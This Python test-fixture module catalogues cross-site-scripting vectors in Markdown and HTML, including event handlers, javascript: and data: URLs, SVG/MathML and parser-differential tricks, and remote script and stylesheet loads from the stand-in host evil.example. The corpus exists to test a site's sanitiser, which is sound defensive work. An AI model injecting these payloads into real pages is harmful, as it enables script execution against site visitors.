"""Script-injection vectors for entry text fields (rule, answers, replies, links, notes).

Each vector is Markdown as an author could type it into an entry's YAML. The
security tests render every vector the way the site does and check with
``htmlcheck.active_content`` that nothing active is left after sanitising.

Categories say where the danger comes from. All of them except
``inert-without-sanitizer`` produce active HTML when Python-Markdown renders them
with ``tables`` and ``attr_list`` and *no* sanitizer (``test_htmlcheck`` proves
it), so the corpus is known to contain live vectors. The inert ones are kept
because they bite through other paths (other Markdown extensions or renderers,
or a sanitizer that rewrites them); each says why in a comment.

No vector contains a tab character, so each is a valid YAML block scalar; tabs
inside URLs are written as the entity ``&#9;``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    name: str
    markdown: str
    category: str


#: Categories that are active when rendered by Python-Markdown without a sanitizer.
RAW_ACTIVE: frozenset[str] = frozenset(
    {
        "raw-script",
        "raw-embed",
        "raw-event-handler",
        "raw-style",
        "raw-url",
        "raw-svg-math",
        "md-link-url",
        "md-reference",
        "attr-list",
        "md-in-html",
        "parser-differential",
        "chinese-mix",
    }
)
INERT = "inert-without-sanitizer"

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>


def _v(category: str, name: str, markdown: str) -> Vector:
    return Vector(name=name, markdown=markdown, category=category)


VECTORS: list[Vector] = [
    # --- raw <script> in all its spellings -------------------------------------------
    _v("raw-script", "script-block", "<script>alert(1)</script>"),
    _v("raw-script", "script-inline", "先看说明 <script>alert(1)</script> 再操作。"),
    _v("raw-script", "script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    _v("raw-script", "script-slash-src", '<script/src="data:,alert(1)"></script>'),
    _v("raw-script", "script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _v(
        "raw-script",
        "script-in-table",
        "| 步骤 | 说明 |\n|---|---|\n| 1 | <script>alert(1)</script> |",
    ),
    # --- frames, plugins ---------------------------------------------------------------
    _v("raw-embed", "iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    _v("raw-embed", "iframe-offsite", '<iframe src="https://evil.example/"></iframe>'),
    _v(
        "raw-embed",
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    ),
    _v("raw-embed", "object-data", '<object data="javascript:alert(1)"></object>'),
    _v(
        "raw-embed",
        "object-data-base64",
        f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>',
    ),
    _v("raw-embed", "embed-svg", f'<embed src="data:image/svg+xml;base64,{_B64_SVG}">'),
    _v("raw-embed", "frameset-onload", "<frameset onload=alert(1)><frame src=x></frameset>"),
    _v(
        "raw-embed",
        "applet",
        '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    ),
    # --- event handlers, obfuscated --------------------------------------------------
    _v("raw-event-handler", "img-onerror", "<img src=x onerror=alert(1)>"),
    _v("raw-event-handler", "img-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    # Python-Markdown escapes this spelling inline (see img-slash-inline) but passes it
    # through untouched inside a raw block element.
    _v("raw-event-handler", "img-slash-in-div", '<div><img/src="x"/onerror=alert(1)></div>'),
    _v("raw-event-handler", "img-newline-separated", "<img src=x\nonerror=alert(1)>"),
    _v("raw-event-handler", "img-spaces-around-equals", '<img src="x" onerror  =  "alert(1)">'),
    _v("raw-event-handler", "img-entity-handler-body", 'see <img src=x onerror="&#97;lert(1)">'),
    _v("raw-event-handler", "img-backtick", "<img src=x onerror=alert`1`>"),
    _v(
        "raw-event-handler",
        "details-ontoggle",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
    ),
    _v("raw-event-handler", "body-onload", "<body onload=alert(1)>"),
    _v("raw-event-handler", "input-autofocus", "<input autofocus onfocus=alert(1)>"),
    _v("raw-event-handler", "video-source-onerror", "<video><source onerror=alert(1)></video>"),
    _v("raw-event-handler", "div-pointer", '<div onpointerenter="alert(1)">悬停</div>'),
    _v("raw-event-handler", "marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    _v(
        "raw-event-handler",
        "handler-in-table",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    ),
    # --- CSS -------------------------------------------------------------------------
    _v("raw-style", "style-expression-attr", '<div style="width: expression(alert(1))">x</div>'),
    _v("raw-style", "style-comment-split", '<div style="xss:expr/**/ession(alert(1))">x</div>'),
    _v(
        "raw-style",
        "style-url-javascript-attr",
        '<p style="background-image:url(javascript:alert(1))">x</p>',
    ),
    _v(
        "raw-style",
        "style-element-url",
        '<style>body{background:url("javascript:alert(1)")}</style>',
    ),
    _v("raw-style", "style-element-import", '<style>@import "https://evil.example/x.css";</style>'),
    _v("raw-style", "link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    _v("raw-style", "link-import", '<link rel="import" href="https://evil.example/x.html">'),
    # --- raw URLs ----------------------------------------------------------------------
    _v("raw-url", "a-href-javascript", '<a href="javascript:alert(1)">x</a>'),
    _v(
        "raw-url",
        "a-href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    _v("raw-url", "a-href-padded-entity", '<a href="&#0000106avascript:alert(1)">x</a>'),
    _v("raw-url", "a-href-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    _v("raw-url", "a-href-leading-newline", '<a href=" &#x0A;javascript:alert(1)">x</a>'),
    _v("raw-url", "a-href-newline-inside", 'a <a href="java\nscript:alert(1)">x</a>'),
    _v("raw-url", "a-href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    _v(
        "raw-url", "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
    ),
    _v("raw-url", "base-href", '<base href="javascript:alert(1)//">'),
    _v("raw-url", "form-action", '<form action="javascript:alert(1)"><button>提交</button></form>'),
    _v("raw-url", "button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    _v(
        "raw-url",
        "input-formaction",
        '<input type="image" src="x.png" formaction="javascript:alert(1)">',
    ),
    _v("raw-url", "isindex", "<isindex action=javascript:alert(1) type=image>"),
    _v("raw-url", "a-ping", '<a href="https://example.com" ping="javascript:alert(1)">x</a>'),
    # --- SVG and MathML ----------------------------------------------------------------
    _v("raw-svg-math", "svg-onload", "<svg onload=alert(1)>"),
    _v("raw-svg-math", "svg-slash-onload", "<svg/onload=alert(1)>"),
    _v("raw-svg-math", "svg-script", "<svg><script>alert(1)</script></svg>"),
    _v(
        "raw-svg-math",
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    _v(
        "raw-svg-math",
        "svg-animate-onbegin",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    ),
    _v(
        "raw-svg-math",
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    ),
    _v(
        "raw-svg-math",
        "svg-use-data",
        f'<svg><use href="data:image/svg+xml;base64,{_B64_SVG}#x"/></svg>',
    ),
    _v("raw-svg-math", "math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    _v(
        "raw-svg-math",
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    # The classic mutation vector: in a browser the <style> ends up outside MathML
    # and the <img> becomes live; html.parser sees the <style> element.
    _v(
        "raw-svg-math",
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    # --- Markdown links and images ---------------------------------------------------
    _v("md-link-url", "link-javascript", "[a](javascript:alert(1))"),
    _v("md-link-url", "link-hex-entity", "[a](jav&#x61;script:alert(1))"),
    _v("md-link-url", "link-decimal-entity", "[a](&#106;avascript:alert(1))"),
    _v("md-link-url", "link-mixed-case", "[a](JaVaScRiPt:alert(1))"),
    _v("md-link-url", "link-tab-entity", "[a](java&#9;script:alert(1))"),
    _v("md-link-url", "link-newline-entity", "[a](java&#x0A;script:alert(1))"),
    _v("md-link-url", "link-angle-brackets", "[a](<javascript:alert(1)>)"),
    _v("md-link-url", "link-data-base64", f"[a](data:text/html;base64,{_B64_SCRIPT})"),
    _v("md-link-url", "link-vbscript", "[a](VBScript:msgbox(1))"),
    _v("md-link-url", "image-javascript", "![x](javascript:alert(1))"),
    _v("md-link-url", "image-data-svg", f"![x](data:image/svg+xml;base64,{_B64_SVG})"),
    # --- reference-style -------------------------------------------------------------
    _v("md-reference", "ref-javascript", "[a][1]\n\n[1]: javascript:alert(1)"),
    _v("md-reference", "ref-angle-title", '[a][x]\n\n[x]: <javascript:alert(1)> "说明"'),
    _v("md-reference", "ref-collapsed-case", "[evil][]\n\n[evil]: JaVaScRiPt:alert(1)"),
    _v("md-reference", "ref-entity", "[a][r]\n\n[r]: jav&#x61;script:alert(1)"),
    _v("md-reference", "ref-image", "![i][p]\n\n[p]: javascript:alert(1)"),
    # --- attr_list braces --------------------------------------------------------------
    _v("attr-list", "inline-onmouseover", '[x](https://example.com){ onmouseover="alert(1)" }'),
    _v(
        "attr-list",
        "inline-href-override",
        '[x](https://example.com){: href="javascript:alert(1)" }',
    ),
    _v("attr-list", "image-src-override", '![x](ok.png){: src="javascript:alert(1)" }'),
    _v("attr-list", "paragraph-onclick", '点这一段\n{: onclick="alert(1)" }'),
    _v("attr-list", "heading-onclick", "# h {#id onclick=x}"),
    _v("attr-list", "paragraph-style", '注意\n{: style="background:url(javascript:alert(1))" }'),
    _v(
        "attr-list",
        "table-cell-link-handler",
        "| a |\n|---|\n| [x](https://example.com){: onfocus=alert(1) autofocus tabindex=1 } |",
    ),
    # --- markdown inside raw HTML ------------------------------------------------------
    _v("md-in-html", "div-markdown-handler", '<div markdown="1" onclick="alert(1)">*x*</div>'),
    _v(
        "md-in-html",
        "span-markdown-handler",
        'a <span markdown="1" onmouseover="alert(1)">**x**</span>',
    ),
    # --- where html.parser and browsers disagree -------------------------------------
    # A browser ends the comment at "--!>" and runs the <img>.
    _v("parser-differential", "comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
    # Outside foreign content a browser ends this bogus comment at the first ">".
    _v("parser-differential", "cdata-outside-svg", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    # With scripting on, <noscript> is raw text for a browser, so "</noscript>"
    # inside the attribute ends it and the <img> is live.
    _v(
        "parser-differential",
        "noscript-title-breakout",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    # The marker lines around raw HTML regions of the generated pages
    # (tooling.site.rawblocks): a writer's text must not close or open a region.
    _v(
        "parser-differential",
        "raw-region-close-marker",
        "<!-- /zhiku:html -->\n<script>alert(1)</script>\n<!-- zhiku:html -->",
    ),
    _v(
        "parser-differential",
        "raw-region-open-marker",
        "<!-- zhiku:html -->\n<img src=x onerror=alert(1)>\n<!-- /zhiku:html -->",
    ),
    # --- Chinese text around vectors -----------------------------------------------------
    _v("chinese-mix", "zh-link-javascript", "请点击[这里](javascript:alert('你好'))查看退款进度。"),
    _v("chinese-mix", "zh-img-onerror", "退款流程<img src=x onerror=\"alert('退款')\">说明如下。"),
    _v("chinese-mix", "zh-raw-anchor", '如有疑问请<a href="javascript:alert(1)">联系客服</a>。'),
    _v("chinese-mix", "zh-heading-attr", '## 售后政策 {: onclick="alert(1)" }'),
    _v("chinese-mix", "zh-reference", "详见[售后说明][售后]。\n\n[售后]: javascript:alert(1)"),
    _v(
        "chinese-mix",
        "zh-table-handler",
        "| 问题 | 答复 |\n|---|---|\n| 退货 | <span onmouseover=alert(1)>七天无理由</span> |",
    ),
    # --- inert under plain Python-Markdown, kept for other paths --------------------------
    # Python-Markdown autolinks only http(s)/ftp; this stays an unknown raw tag. A
    # CommonMark renderer (or another extension) would turn it into a javascript: link.
    _v(INERT, "autolink-javascript", "<javascript:alert(1)>"),
    # Becomes mailto:javascript:...@example.com here; other renderers differ.
    _v(INERT, "automail-javascript", "<javascript:alert(1)@example.com>"),
    # Only md_in_html (not enabled) would render the inner Markdown link.
    _v(INERT, "div-markdown-link", '<div markdown="1">[a](javascript:alert(1))</div>'),
    # Python-Markdown escapes the quotes; a renderer that did not would gain a handler.
    _v(INERT, "link-title-breakout", '[a](https://example.com "t\\" onmouseover=\\"alert(1)")'),
    # Python-Markdown's inline-HTML pattern rejects the quoted value glued to the tag
    # name and escapes the tag; it is live in a raw block (see img-slash-in-div).
    _v(INERT, "img-slash-inline", '<img/src="x"/onerror=alert(1)>'),
    # A full-width colon is not a scheme separator: the browser sees a relative path.
    _v(INERT, "zh-fullwidth-colon", "[点我](javascript：alert(1))"),
    # Code spans and blocks escape their content; a sanitizer must not unescape it.
    _v(INERT, "code-span-script", "`<script>alert(1)</script>`"),
    _v(INERT, "code-block-handler", "    <img src=x onerror=alert(1)>"),
]
